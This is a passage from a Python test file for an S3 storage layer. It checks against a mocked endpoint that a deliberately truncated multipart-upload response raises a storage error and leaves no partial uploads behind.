    finally:
        proxy.stop()
    assert client.list_multipart_uploads(Bucket=bucket).get("Uploads", []) == []
    assert client.list_objects_v2(Bucket=bucket).get("Contents", []) == []


def test_an_s3_answer_cut_short_is_a_storage_error_and_its_upload_is_aborted(dedicated_app, moto_endpoint):
    """A connection dropped in the middle of S3's answer to "start a multipart upload" leaves s3transfer a response
    without its UploadId (it raised KeyError, a 500). Here the answer is cut short on purpose, deterministically."""
    _s3_app, client, bucket = _s3_app_and_bucket(dedicated_app, moto_endpoint)
    storage = S3Storage(bucket, region=REGION, endpoint_url=moto_endpoint, connect_timeout=1)
    storage.client.meta.events.register(
        "after-call.s3.CreateMultipartUpload", lambda parsed, **_: parsed.pop("UploadId", None)
    )
    key = f"{uuid.uuid4()}/{uuid.uuid4()}"

    with pytest.raises(StorageError, match="S3 upload failed"):
        storage.save(key, io.BytesIO(b"x" * (12 * 1024 * 1024)), content_type="application/pdf", download_name="x")

    assert client.list_multipart_uploads(Bucket=bucket).get("Uploads", []) == []  # the save aborted what S3 began
    assert client.list_objects_v2(Bucket=bucket).get("Contents", []) == []
